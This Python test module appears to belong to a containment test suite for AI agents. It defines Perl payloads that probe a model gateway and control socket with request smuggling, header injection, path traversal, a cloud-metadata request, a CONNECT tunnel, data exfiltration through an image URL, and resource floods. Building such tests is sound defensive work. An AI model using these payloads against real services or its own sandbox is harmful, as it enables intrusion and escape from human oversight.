"""Attempts to get something past the model gateway and the control socket.

An attempt got through if the provider or the runner received it; controls send the same through a plain pipe. A payload
first sends a valid request, which must be answered, so that a refusal afterwards is due to the trick.
"""

from agentcontainer.prove.attempt import Attempt, Group
from agentcontainer.prove.payload import perl
from agentcontainer.prove.served import MODEL, by_control, by_gateway, by_pipe
from agentcontainer.prove.targets import nonce_only

ANTHROPIC, OPENAI = "/anthropic/v1/messages", "/openai/v1/responses"
_MESSAGES = '"messages":[{"role":"user","content":"Hello."}],"max_tokens":5'
_PLAIN = {
    ANTHROPIC: f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}))',
    OPENAI: f'post("{OPENAI}", qq({{"model":"{MODEL}","input":"x"}}))',
}
_PLAIN_FINISH = 'post("/finish", qq({"completion":"complete","message":"Done.","cwd":"/"}))'
_CONNECTIONS = 200
_FLOOD = f"""
my @open; for (1 .. {_CONNECTIONS}) {{
    socket(my $s, AF_UNIX, SOCK_STREAM, 0) or last; connect($s, sockaddr_un($gateway)) and push @open, $s;
}}
nap 1; my $left = grep {{ syswrite($_, "P") }} @open; nap 0.5; $left = grep {{ defined syswrite($_, "O") }} @open;
print $ARGV[0] if $left == {_CONNECTIONS};
"""


def _sends(socket: str, plain: str, script: str) -> str:
    """Perl that sends what `script` returns (`$n` is the nonce), after the plain request was answered."""
    return (
        f"sub ask {{ my ($n) = @ARGV; {script} }} unix({socket}, {plain}) =~ m|^HTTP/1.1 200| or die 'not served';"
        f"begin; unix({socket}, ask());"
    )


def _asks(name: str, tries: str, script: str, path: str = ANTHROPIC) -> Attempt:
    """A request to the gateway of a task whose provider serves `path`."""
    provider: str = "openai" if path == OPENAI else "anthropic"
    payload = perl(_sends("$gateway", _PLAIN[path], script), begins=False)
    return Attempt(name, tries, payload, nonce_only, by_gateway(provider), by_pipe())


def _body(name: str, tries: str, fields: str, path: str = ANTHROPIC) -> Attempt:
    """A valid model request with these additional fields."""
    return _asks(name, tries, f'post("{path}", qq({{"model":"{MODEL}",{fields}}}))', path)


def _finish(name: str, tries: str, script: str) -> Attempt:
    """A request to the control socket."""
    payload = perl(_sends("$control", _PLAIN_FINISH, script), begins=False)
    return Attempt(name, tries, payload, nonce_only, by_control, by_pipe())


GATEWAY = Group(
    "gateway",
    (
        _asks(
            "another-model",
            "Asks a model that is not its task's.",
            f'post("{ANTHROPIC}", qq({{"model":"$n",{_MESSAGES}}}))',
        ),
        _body(
            "twice-a-model",
            "Names two models, one allowed and one not, under the same key.",
            f'"model":"$n",{_MESSAGES}',
        ),
        _body(
            "fallback",
            "Names another model as a fallback for its own.",
            f'"fallbacks":[{{"model":"$n"}}],{_MESSAGES}',
        ),
        _body(
            "hosted-tool",
            "Uses the provider's hosted web search.",
            f'"tools":[{{"type":"web_search","name":"$n"}}],{_MESSAGES}',
        ),
        _body(
            "fetch-image",
            "Makes the provider fetch a URL that contains stolen data.",
            '"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"http://x/$n"}}]}]',
        ),
        _body(
            "stored-item",
            "Reads another task's stored conversation at the provider.",
            '"input":"x","previous_response_id":"$n"',
            OPENAI,
        ),
        _body("unknown-field", "Uses a request field that is not on the allow-list.", f'"$n":1,{_MESSAGES}'),
        _asks(
            "another-provider",
            "Asks another provider.",
            f'post("{OPENAI}", qq({{"model":"{MODEL}","input":"$n"}}))',
        ),
        _asks(
            "another-path",
            "Calls an API of the provider that does not run a model.",
            'post("/anthropic/v1/files/$n", "{}")',
        ),
        _asks(
            "dots", "Leaves the allowed path by dot segments.", f'post("{ANTHROPIC}/../../files/$n", "{{}}")'
        ),
        _asks(
            "query",
            "Adds a query to the path.",
            f'post("{ANTHROPIC}?$n=1", qq({{"model":"{MODEL}",{_MESSAGES}}}))',
        ),
        _asks(
            "header",
            "Adds headers of its own.",
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "Anthropic-Organization: $n", "Cookie: $n")',
        ),
        _asks(
            "own-key",
            "Uses the task's models with a key of its own.",
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "x-api-key: $n")',
        ),
        _asks(
            "absolute", "Names another server in the request line.", 'post("http://169.254.169.254/$n", "{}")'
        ),
        _asks(
            "tunnel",
            "Asks for a tunnel to another server.",
            '"CONNECT $n.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"',
        ),
        _asks(
            "smuggled",
            "Smuggles a second request in the body of the first, by two contradictory lengths.",
            'my $inner = post("/v1/files/$n", ""); post("' + ANTHROPIC + '", "0\\r\\n\\r\\n$inner",'
            '"Content-Length: " . (5 + length $inner), "Transfer-Encoding: chunked")',
        ),
        _asks(
            "pipelined",
            "Pipelines a second request behind a first one that is refused.",
            'my $first = post("/x", "{}"); $first =~ s/Connection: close\\r\\n//;'
            '$first . post("/anthropic/v1/files/$n", "{}")',
        ),
        _asks(
            "split-header",
            "Injects a header by a line break in a header's value.",
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}",{_MESSAGES}}}), "anthropic-beta: x\\n$n: y")',
        ),
        _asks(
            "endless-body",
            "Sends a body that is larger than the limit.",
            'my $fill = "x" x (34 * 1048576);'
            f'post("{ANTHROPIC}", qq({{"model":"{MODEL}","system":"$fill$n",{_MESSAGES}}}))',
        ),
        Attempt(
            "connections",
            "Opens more connections than the limit.",
            perl(_FLOOD),
            nonce_only,
            by_gateway(is_received=False),
            by_pipe(is_received=False),
        ),
        _finish(
            "endless-finish",
            "Calls finish with a message that is larger than the limit.",
            'my $fill = "x" x 2000000; post("/finish", qq({"completion":"complete","message":"$fill$n","cwd":"/"}))',
        ),
        _finish(
            "odd-finish",
            "Calls finish with the id of another task.",
            'post("/finish", qq({"completion":"complete","message":"$n","cwd":"/","taskId":"tsk_other"}))',
        ),
        _finish(
            "deep-finish",
            "Calls finish with JSON that is nested too deeply for a parser.",
            'my $deep = "[" x 100000; post("/finish", qq({"message":"$n","files":$deep))',
        ),
    ),
)
